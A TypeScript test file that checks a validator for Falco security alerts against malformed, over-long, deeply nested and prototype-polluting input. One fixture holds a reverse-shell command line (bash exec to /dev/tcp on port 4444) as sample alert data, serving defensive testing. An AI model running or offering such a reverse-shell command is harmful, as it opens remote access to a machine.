import { ALERT_LIMITS } from '../../../contracts';
import { CLIP_MARKER, CLIPPED_KEY } from '../../../gate/clip';
import { validateEvent } from '../../../gate/validate';
import { rawLines, SHARED_SAMPLES } from '../../helpers/fixtures';

const MAX = 64 * 1024;
const check = (value: string | Buffer) => {
  const buf = typeof value === 'string' ? Buffer.from(value, 'utf8') : value;
  return validateEvent(buf.toString('utf8'), buf.byteLength, MAX);
};
const shell = () => structuredClone(rawLines(SHARED_SAMPLES).find((a) => (a as { source?: string }).source === 'syscall')) as Record<string, unknown>;
const json = (o: unknown) => JSON.stringify(o);

describe('validateEvent: every kind of malformed input gets a reason, nothing throws', () => {
  it('accepts every real sample, including old alerts without source, tags or hostname', () => {
    const samples = rawLines(SHARED_SAMPLES);
    const old = samples.filter((a) => !('source' in (a as object)) && !('tags' in (a as object)) && !('hostname' in (a as object)));
    expect(old.length).toBeGreaterThan(0);
    for (const a of samples) expect(check(json(a))).toMatchObject({ ok: true });
  });

  it.each([
    ['empty message', '', 'empty'],
    ['whitespace only', '  \n\t ', 'empty'],
    ['plain text', 'Falco alert: shell in container', 'not_json'],
    ['truncated JSON (cut mid-message)', json(shell()).slice(0, 120), 'not_json'],
    ['trailing garbage', `${json(shell())}}`, 'not_json'],
    ['two alerts on one line', `${json(shell())}${json(shell())}`, 'not_json'],
    ['JSON null', 'null', 'not_an_object'],
    ['JSON array of alerts', `[${json(shell())}]`, 'not_an_object'],
    ['JSON string', '"an alert"', 'not_an_object'],
    ['JSON number', '42', 'not_an_object'],
  ])('%s → %s', (_name, value, kind) => {
    expect(check(value)).toMatchObject({ ok: false, kind, reason: expect.any(String) });
  });

  it.each([
    ['rule', 'rule'],
    ['time', 'time'],
    ['output', 'output'],
    ['output_fields', 'output_fields'],
    ['priority', 'priority'],
  ])('missing %s is named in the reason', (field, path) => {
    const a = shell();
    delete a[field];
    const r = check(json(a));
    expect(r).toMatchObject({ ok: false, kind: 'invalid_alert' });
    expect(!r.ok && r.reason).toContain(`${path}:`);
  });

  it.each<[string, (a: Record<string, unknown>) => void, string]>([
    ['priority as a number', (a) => (a.priority = 4), 'priority'],
    ['an unknown priority', (a) => (a.priority = 'Urgent'), 'unknown Falco priority'],
    ['rule as a number', (a) => (a.rule = 7), 'rule'],
    ['an empty rule', (a) => (a.rule = ''), 'rule'],
    ['time that is not a timestamp', (a) => (a.time = 'yesterday'), 'RFC 3339'],
    ['time as epoch nanoseconds', (a) => (a.time = 1685022245478445995), 'time'],
    ['output_fields as an array', (a) => (a.output_fields = ['proc.name', 'sh']), 'output_fields'],
    ['an output_fields value that is an object', (a) => ((a.output_fields as Record<string, unknown>)['proc.name'] = { name: 'sh' }), 'output_fields'],
    ['tags as a string', (a) => (a.tags = 'container,shell'), 'tags'],
    ['hostname as a number', (a) => (a.hostname = 12), 'hostname'],
    ['source as a list', (a) => (a.source = ['syscall']), 'source'],
  ])('%s', (_name, mutate, inReason) => {
    const a = shell();
    mutate(a);
    const r = check(json(a));
    expect(r).toMatchObject({ ok: false, kind: 'invalid_alert' });
    expect(!r.ok && r.reason).toContain(inReason);
  });

  it('clips over-long values to the contract bounds with a marker (still an alert, still scored), and refuses a huge message before parsing it', () => {
    const longOutput = shell();
    longOutput.output = 'x'.repeat(ALERT_LIMITS.outputChars + 1);
    const o = check(json(longOutput));
    expect(o).toMatchObject({ ok: true, clipped: ['output'] });
    expect(o.ok && o.alert.output.length).toBe(ALERT_LIMITS.outputChars);
    expect(o.ok && o.alert.output.endsWith(CLIP_MARKER)).toBe(true);

    const longField = shell();
    const cmdline = `bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444' ${'A'.repeat(ALERT_LIMITS.fieldChars)}`;
    (longField.output_fields as Record<string, unknown>)['proc.cmdline'] = cmdline;
    const f = check(json(longField));
    expect(f).toMatchObject({ ok: true, clipped: ['output_fields.proc.cmdline'] });
    const kept = f.ok ? String(f.alert.output_fields['proc.cmdline']) : '';
    expect(kept.startsWith("bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444'")).toBe(true);
    expect(f.ok && (f.alert as Record<string, unknown>)[CLIPPED_KEY]).toEqual(['output_fields.proc.cmdline']);

    // Junk fields padded in front of the ones detection reads: those survive the cut.
    const manyFields = shell();
    manyFields.output_fields = { ...Object.fromEntries(Array.from({ length: ALERT_LIMITS.fields + 10 }, (_, i) => [`junk${i}`, i])), ...(manyFields.output_fields as object) };
    const m = check(json(manyFields));
    expect(m.ok).toBe(true);
    expect(m.ok && Object.keys(m.alert.output_fields).length).toBe(ALERT_LIMITS.fields);
    expect(m.ok && m.alert.output_fields['proc.name']).toBe((shell().output_fields as Record<string, unknown>)['proc.name']);

    const manyTags = shell();
    manyTags.tags = Array.from({ length: ALERT_LIMITS.tags + 1 }, (_, i) => `t${i}`);
    expect(check(json(manyTags))).toMatchObject({ ok: true, clipped: ['tags'] });

    // A value of the wrong type is not clipped into validity.
    const wrongType = shell();
    wrongType.output = 12;
    expect(check(json(wrongType))).toMatchObject({ ok: false, kind: 'invalid_alert' });

    const huge = Buffer.alloc(MAX + 1, 0x7b);
    const r = validateEvent('', huge.byteLength, MAX);
    expect(r).toMatchObject({ ok: false, kind: 'too_large', reason: `message is ${MAX + 1} bytes, the limit is ${MAX}` });
  });

  it('refuses extra fields nested too deep or too large before anything recurses into them', () => {
    const deep = `${'{"d":'.repeat(5_000)}1${'}'.repeat(5_000)}`;
    expect(check(json(shell()).replace(/^\{/, `{"extra":${deep},`))).toMatchObject({ ok: false, kind: 'too_complex', reason: expect.stringContaining('deeper than') });
    expect(check(json({ ...shell(), extra: Array.from({ length: 5_000 }, () => [1]) }))).toMatchObject({ ok: false, kind: 'too_complex' });
    expect(check(json({ ...shell(), ...Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`k${i}`, i])) }))).toMatchObject({ ok: false, kind: 'too_complex' });
    // Shallow extras are fine, and a nested own __proto__ key in one is removed.
    const ok = check(json({ ...shell(), extra: { a: [1, { b: 2 }] } }).replace('"b":2', '"b":2,"__proto__":{"polluted":1}'));
    expect(ok.ok).toBe(true);
    const extra = ok.ok ? ((ok.alert as Record<string, unknown>).extra as { a: [number, Record<string, unknown>] }) : null;
    expect(Object.hasOwn(extra!.a[1], '__proto__')).toBe(false);
    expect(Object.getPrototypeOf(extra!.a[1])).toBe(Object.prototype);
  });

  it("keeps falcosidekick's truncated `[...]` string fields (still valid), and refuses a truncated time", () => {
    const cut = shell();
    const fields = cut.output_fields as Record<string, unknown>;
    fields['proc.cmdline'] = `${'curl -s http://example.test/'.padEnd(507, 'a')}[...]`;
    cut.output = `${String(cut.output).slice(0, 507)}[...]`;
    const r = check(json(cut));
    expect(r.ok && r.alert.output_fields['proc.cmdline']).toMatch(/\[\.\.\.\]$/);

    const badTime = shell();
    badTime.time = `${String(badTime.time).slice(0, 10)}[...]`;
    expect(check(json(badTime))).toMatchObject({ ok: false, kind: 'invalid_alert', reason: expect.stringContaining('time') });
  });

  it('keeps a reason short however long the bad value is', () => {
    const a = shell();
    a.priority = 'P'.repeat(50_000);
    const r = check(json(a));
    expect(!r.ok && r.reason.length).toBeLessThanOrEqual(1000);
  });

  it('treats invalid UTF-8 and control bytes as data (replacement characters), not a crash', () => {
    const a = shell();
    const bytes = Buffer.concat([Buffer.from(json(a).slice(0, -2)), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]);
    expect(() => check(bytes)).not.toThrow();
    expect(check(Buffer.from([0xc3, 0x28, 0x00, 0x01]))).toMatchObject({ ok: false, kind: 'not_json' });
  });

  it('does not let a __proto__ key reach any prototype', () => {
    const text = json(shell()).replace('{', '{"__proto__":{"polluted":true},');
    const r = check(text);
    expect(r.ok).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('survives absurdly deep nesting', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    expect(check(deep)).toMatchObject({ ok: false });
  });
});
